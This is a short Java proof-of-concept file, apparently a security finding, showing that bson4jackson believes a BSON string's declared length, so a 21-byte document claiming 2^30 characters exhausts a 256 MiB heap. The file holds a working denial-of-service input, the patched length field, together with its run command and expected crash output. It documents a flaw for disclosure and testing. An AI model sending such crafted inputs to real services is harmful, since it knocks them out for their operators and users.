// A text's length is believed: 21 bytes fill a heap of 256 MiB.
// de.undercouch:bson4jackson:2.18.0, com.fasterxml.jackson.core:jackson-databind:2.23.0
// run: r=~/.m2/repository; java -Xmx256m -cp $(ls $r/de/undercouch/bson4jackson/2.18.0/*.jar $r/com/fasterxml/jackson/core/jackson-{databind,core}/2.23.0/*.jar $r/com/fasterxml/jackson/core/jackson-annotations/2.23/*.jar | tr '\n' :) benches/findings/java/Bson4jacksonLengths.java
// Prints: 21 bytes, whose text says that it has 1073741824: java.lang.OutOfMemoryError: Java heap space
import com.fasterxml.jackson.databind.ObjectMapper;
import de.undercouch.bson4jackson.BsonFactory;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Map;

class Bson4jacksonLengths {
  public static void main(String[] args) throws Exception {
    ObjectMapper mapper = new ObjectMapper(new BsonFactory());
    byte[] bytes = mapper.writeValueAsBytes(Map.of("text", "value"));
    // The document's size, the element's type, its name and a zero come first.
    ByteBuffer.wrap(bytes).order(ByteOrder.LITTLE_ENDIAN).putInt(4 + 1 + 5, 1 << 30);
    System.out.print(bytes.length + " bytes, whose text says that it has " + (1 << 30) + ": ");
    try {
      System.out.println(mapper.readValue(bytes, Map.class));
      System.exit(1);
    } catch (Exception | OutOfMemoryError e) {
      System.out.println(e);
      System.exit(e instanceof OutOfMemoryError ? 0 : 1);
    }
  }
}
